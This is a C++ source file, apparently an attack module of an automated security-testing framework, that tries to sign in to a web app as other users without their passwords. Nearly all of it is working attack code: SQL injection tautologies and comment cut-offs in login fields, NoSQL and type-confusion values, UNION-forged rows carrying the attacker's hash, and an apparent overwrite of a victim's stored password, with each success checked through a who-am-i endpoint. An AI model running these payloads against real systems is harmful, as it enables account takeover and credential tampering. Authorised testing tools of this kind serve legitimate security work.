// sql-tautology: signs in as another person without the password. A condition that is always
// true, a comment that cuts the password off, or a row put together by UNION: the other's name
// with the attacker's own hash. After each success it asks the app who is signed in.
#include <algorithm>

#include "core/attack/every_agent.h"
#include "core/attack/forged_row.h"
#include "core/attack/intrusion.h"
#include "core/attack/loot.h"
#include "core/attack/session.h"
#include "core/attack/spelling.h"

namespace parapet::attack {
namespace {

class SqlTautology final : public Agent {
    void run(Target& target) override {
        Endpoint const* login = endpoint_option(target, option::kLogin, "login");
        if (login == nullptr || target.surface().usernames.empty()) return;
        Attempt attempt{target, *login};
        for (std::string const& victim : target.surface().usernames) {
            if (try_names(attempt, victim) || try_passwords(attempt, victim) ||
                try_types(attempt, victim))
                return;
        }
        try_forged_row(attempt);
    }

    // One login after another, and whose session came of it.
    struct Attempt {
        Target& target;
        Endpoint const& login;

        std::size_t username() const { return username_parameter(login); }
        std::size_t password() const { return password_parameter(login); }
        std::string column() const { return login.parameters[username()].name; }

        bool wins(std::string const& victim, DressedValue const& value) const {
            std::vector<std::string> values = samples(login);
            values[password()] = target.surface().attacker.password;
            if (value.parameter != username()) values[username()] = victim;
            if (!succeeded(send_patiently(target, write_request(login, values, value))))
                return false;
            return is_now(target, victim);
        }
    };

    static bool try_names(Attempt const& attempt, std::string const& victim) {
        std::string const nothing = random_word(attempt.target, 6);
        std::string const name = attempt.column() + "=" + characters(victim);
        std::vector<std::string> texts;
        for (char const* tail : {"'--", "'/*-", "')--"}) texts.push_back(victim + tail);
        for (Break const& each : text_breaks(nothing)) texts.push_back(each.chained().around(name));
        texts.push_back(nothing + "' OR " + name + " OR '1'='2");
        texts.push_back(nothing + "' OR 1=1 LIMIT 1--");
        texts.push_back(nothing + "' OR 1=1 LIMIT 1 OFFSET 1--");
        texts.push_back(nothing + "' OR '1'='1");
        return std::any_of(texts.begin(), texts.end(), [&](std::string const& text) {
            return attempt.wins(victim, {attempt.username(), text});
        });
    }

    // Few: each costs the app a hash when it does what it should.
    static bool try_passwords(Attempt const& attempt, std::string const& victim) {
        std::string const name = attempt.column() + "=" + characters(victim);
        for (std::string const& text :
             {"x'=0=(" + name + ")--", "x')=0=(" + name + ")/*-", "x' OR " + name + " OR '1'='2"}) {
            if (attempt.wins(victim, {attempt.password(), text})) return true;
        }
        return false;
    }

    // Types that a comparison, a driver or a library may read otherwise than was meant, and no
    // password at all.
    static bool try_types(Attempt const& attempt, std::string const& victim) {
        for (char const* raw : {"\"\"", "true", "null", "[]", "{\"$ne\":\"\"}"}) {
            if (attempt.wins(victim, {attempt.password(), raw, Dress::Raw})) return true;
        }
        return attempt.wins(victim, {attempt.password(), "", Dress::Missing}) ||
               attempt.wins(victim, {attempt.username(), victim, Dress::Array});
    }

    static void try_forged_row(Attempt const& attempt) {
        Target& target = attempt.target;
        DirectEntry entry(target, {&attempt.login, attempt.username()});
        Guess const guess = guess_login(target, attempt.login, attempt.username());
        std::optional<Oracle> oracle;
        for (Frame const& frame : guess.frames) {
            if (!oracle) oracle = Oracle::find(entry, frame);
        }
        if (!oracle) return;
        target.note("The name at the login reaches SQL as code.");
        std::optional<Spelling> const spelling =
            find_spelling(*oracle, "(SELECT max(41) FROM (SELECT 1 UNION SELECT 2) WHERE 1=1)");
        if (!spelling) return;
        for (Break const& each : guess.breaks) {
            if (Oracle::find(entry, own_row(target, each, attempt.column())) &&
                forge_row(attempt, each, *spelling))
                return;
        }
    }

    static bool forge_row(Attempt const& attempt, Break const& with, Spelling const& spelling) {
        Target& target = attempt.target;
        for (std::string const& victim : target.surface().usernames) {
            ForgedRow const forged(target, attempt.column(), victim);
            for (std::string const& text : forged.texts(with, spelling)) {
                if (attempt.wins(victim, {attempt.username(), text})) return true;
            }
            auto const overwriting = forged.overwriting(with, spelling);
            if (!overwriting) continue;
            attempt.wins(victim, {attempt.username(), *overwriting});
            if (sign_in(target, {victim, target.surface().attacker.password}) &&
                is_now(target, victim))
                return true;
        }
        return false;
    }

    // Shows the session to the world, and tells from the answer whether to go on.
    static bool is_now(Target& target, std::string const& victim) {
        bool is_victim = false;
        for (Endpoint const* each : endpoints_option(target, option::kWhoAmI, "me")) {
            http::Response const who = target.send(write_request(*each, samples(*each)));
            is_victim |= who.body.find(json_string(victim)) != std::string::npos;
        }
        if (is_victim) target.note("Signed in as " + victim + ".");
        return is_victim;
    }
};

}  // namespace

std::unique_ptr<Agent> make_sql_tautology() { return std::make_unique<SqlTautology>(); }

}  // namespace parapet::attack
